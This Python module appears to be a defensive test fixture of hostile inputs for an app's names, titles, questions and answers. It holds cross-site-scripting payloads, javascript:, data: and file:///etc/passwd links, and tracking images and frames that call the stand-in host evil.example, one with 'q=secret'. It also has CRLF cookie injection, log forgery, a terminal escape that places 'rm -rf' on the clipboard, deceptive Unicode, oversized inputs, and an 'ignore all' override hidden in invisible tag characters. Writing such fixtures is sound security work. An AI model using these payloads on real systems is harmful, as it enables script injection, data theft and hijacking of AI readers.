"""What somebody who means harm would write: into a question, an answer, a title, a name, the name of a model.

Each of them tries one thing, and its name says which.
"""

TRACKER = "evil.example"  # a host that nothing of ours may ever ask for anything

MARKUP = {
    "a script": "<script>window.ran=1</script>",
    "a script that ends an attribute": '"><script>window.ran=1</script>',
    "the end of a title": "</title><script>window.ran=1</script>",
    "the end of a script": "</script><script>window.ran=1</script>",
    "an event handler": '<img src=x onerror="window.ran=1">',
    "an event handler in an attribute": '" autofocus onfocus="window.ran=1" x="',
    "…in one with single quotes": "' onmouseover='window.ran=1' x='",
    "an svg": "<svg/onload=window.ran=1>",
    "math": "<math><mtext></table><mglyph><style><img src=x onerror=window.ran=1>",
    "a frame": f'<iframe src="https://{TRACKER}/frame"></iframe>',
    "a form": f'<form action="https://{TRACKER}/form"><button>Continue</button></form>',
    "a base": f'<base href="https://{TRACKER}/">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url=https://{TRACKER}/">',
    "a link to a sheet": f'<link rel="stylesheet" href="https://{TRACKER}/sheet.css">',
    "a style": f"<style>body{{display:none;background:url(https://{TRACKER}/style)}}</style>",
    "a style in an attribute": f'<p style="position:fixed;inset:0;background:url(https://{TRACKER}/p)">over all</p>',
    "a template": "{{7*7}}${7*7}<%= 7*7 %>{% print(7*7) %}",
}

LINKS = {
    "javascript": "[here](javascript:window.ran=1)",
    "javascript, in disguise": "[here](JaVaScRiPt&colon;window.ran=1) [here](java&#x0A;script:window.ran=1)",
    "javascript in brackets": "<javascript:window.ran=1>",
    "javascript by reference": "[here][x]\n\n[x]: javascript:window.ran=1",
    "data": "[here](data:text/html,<script>window.ran=1</script>)",
    "vbscript": "[here](vbscript:window.ran=1)",
    "a file": "[here](file:///etc/passwd)",
    "blob": "[here](blob:https://evil.example/x)",
    "an image that tracks": f"![](https://{TRACKER}/pixel.gif?q=secret)",
    "an image that tracks, by reference": f"![x][y]\n\n[y]: https://{TRACKER}/pixel.gif",
    "an image in a link": f"[![x](https://{TRACKER}/pixel.gif)](https://{TRACKER}/)",
    "a formula that tracks": f"$$\\includegraphics{{https://{TRACKER}/x}} \\href{{javascript:window.ran=1}}{{x}}$$",
}

CHARACTERS = {
    "overrides": "invoice\u202egpj.exe \u202dx",
    "isolates that nobody closes": "\u2066\u2067\u2068open",
    "isolates that are closed twice": "\u2069\u202c\u2069closed",
    "nothing to be seen": "\u200b\u2060\ufeff\u00ad",
    "fillers": "\u3164\u115f\u2800",
    "heaps of marks": "Z" + "\u0335\u0321\u0489" * 200,
    "nul": "a\0b",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "escapes": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]52;c;cm0gLXJm\x07\x9b31m",
    "lines": "first\r\nSet-Cookie: stolen=1\r\n\r\n<script>window.ran=1</script>",
    "an event of its own": "x\n2026-01-01 00:00:00 [error] webapp: forged stream_id=st_1",
    "other ends of lines": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "tags that nobody sees": "Hello" + "".join(chr(0xE0000 + ord(each)) for each in "ignore all"),
    "letters of other alphabets": "\u0410d\u0430",  # looks like Ada
}

SIZES = {
    "one word of 100 KB": "W" * 100_000,
    "one word that is wide": "\ufdfd" * 2_000,
    "deep quotes": ">" * 5_000 + " deep",
    "deep lists": "".join("  " * depth + "- x\n" for depth in range(300)),
    "deep brackets": "[" * 5_000 + "x" + "](y)" * 5_000,
    "deep emphasis": "*a **b " * 3_000,
    "a fence that never ends": "```" + "`" * 5_000 + "\n" + "x" * 5_000,
    "a table without end": "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "|x" * 500 + "|",
}

SURROGATE = "half \ud83d of a pair"  # lone; JSON can say it, UTF-8 cannot

SHORT = {**MARKUP, **CHARACTERS}
"""What can be tried as a name or a title."""

ALL = {**SHORT, **LINKS, **SIZES}
